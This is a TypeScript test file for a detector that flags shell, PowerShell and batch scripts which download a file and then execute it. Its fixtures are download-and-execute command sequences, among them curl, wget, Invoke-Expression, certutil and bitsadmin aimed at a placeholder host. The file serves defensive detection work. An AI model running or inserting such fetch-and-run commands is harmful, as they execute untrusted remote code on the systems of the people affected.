import assert from 'node:assert/strict';
import { test } from 'node:test';
import { shellDownloads } from './shell-downloads.ts';

const linesOf = (source: string) => shellDownloads(source).map(({ line }) => line);

for (const [why, source, expected] of [
  ['a file by option', 'curl -s -o /tmp/.x https://x.invalid/a\nchmod +x /tmp/.x\n/tmp/.x &\n', [3]],
  ['a file as the URL calls it', 'cd /tmp\nwget https://x.invalid/run.sh?v=1\nbash run.sh\n', [3]],
  ['a variable', 'body=$(curl -s https://x.invalid/a)\necho hi\neval "$body"\n', [3]],
  ['a variable that is piped', 'B=`curl -s https://x.invalid/a`\necho "$B" | sh\n', [2]],
  ['a name for the file', 'OUT="$HOME/.cache/x"\ncurl -L https://x.invalid/a > "$OUT"\nnohup "$OUT" &\n', [3]],
  ['a copy', 'curl -o a.txt https://x.invalid/a\nmv a.txt b.sh\n. ./b.sh\n', [3]],
  ['a decoded file', 'curl -o a https://x.invalid/a\nbase64 -d < a > b\npython3 b\n', [3]],
  ['one line with carried parts', 'curl \\\n  -o a.bin \\\n  https://x.invalid/a\n./a.bin\n', [4]],
  ['lines that end with CR', 'curl -o a.bin https://x.invalid/a\r./a.bin\r', [2]],
  ['PowerShell', '$p = "$env:TEMP\\u.exe"\nInvoke-WebRequest https://x.invalid/u -OutFile $p\nStart-Process $p\n', [3]],
  [
    'PowerShell text',
    '$c = New-Object Net.WebClient\n$t = $c.DownloadString("https://x.invalid/a")\nInvoke-Expression $t\n',
    [3],
  ],
  ['a WebClient', '(New-Object Net.WebClient).DownloadFile("https://x.invalid/a", "C:\\a.exe")\n& C:\\a.exe\n', [2]],
  ['batch', '@echo off\nset "T=%TEMP%\\a.exe"\ncertutil -urlcache -f https://x.invalid/a %T%\nstart "" %T%\n', [4]],
  ['batch with bitsadmin', 'bitsadmin /transfer j https://x.invalid/a %TEMP%\\b.bat\ncall %TEMP%\\b.bat\n', [2]],
  ['cmd that starts', 'curl -o %TEMP%\\c.exe https://x.invalid/c\ncmd /c start %TEMP%\\c.exe\n', [2]],
] as const) {
  test(`follows ${why}`, () => assert.deepEqual(linesOf(source), expected));
}

for (const [why, source] of [
  ['a download that is only kept', 'curl -o data.csv https://x.invalid/data.csv\nwc -l data.csv\n'],
  ['an archive that is unpacked', 'wget https://x.invalid/a.tar.gz\ntar xf a.tar.gz\ncd a\nmake\n'],
  ['another file', 'curl -o data.json https://x.invalid/d\npython3 build.py\n'],
  ['a name that was given away', 'X=$(curl https://x.invalid/a)\nX=ls\neval "$X"\n'],
  ['a start before the download', 'bash run.sh\ncurl -o run.sh https://x.invalid/run.sh\n'],
  ['a comment', 'curl -o a.sh https://x.invalid/a\n# bash a.sh\n'],
  ['no script at all', '\0\0\u{fffd}|||;;;==='],
] as const) {
  test(`is quiet about ${why}`, () => assert.deepEqual(linesOf(source), []));
}

test('says three of many', () => {
  const many = Array.from({ length: 50 }, () => 'bash a.sh').join('\n');
  assert.equal(shellDownloads(`curl -o a.sh https://x.invalid/a\n${many}`).length, 3);
});
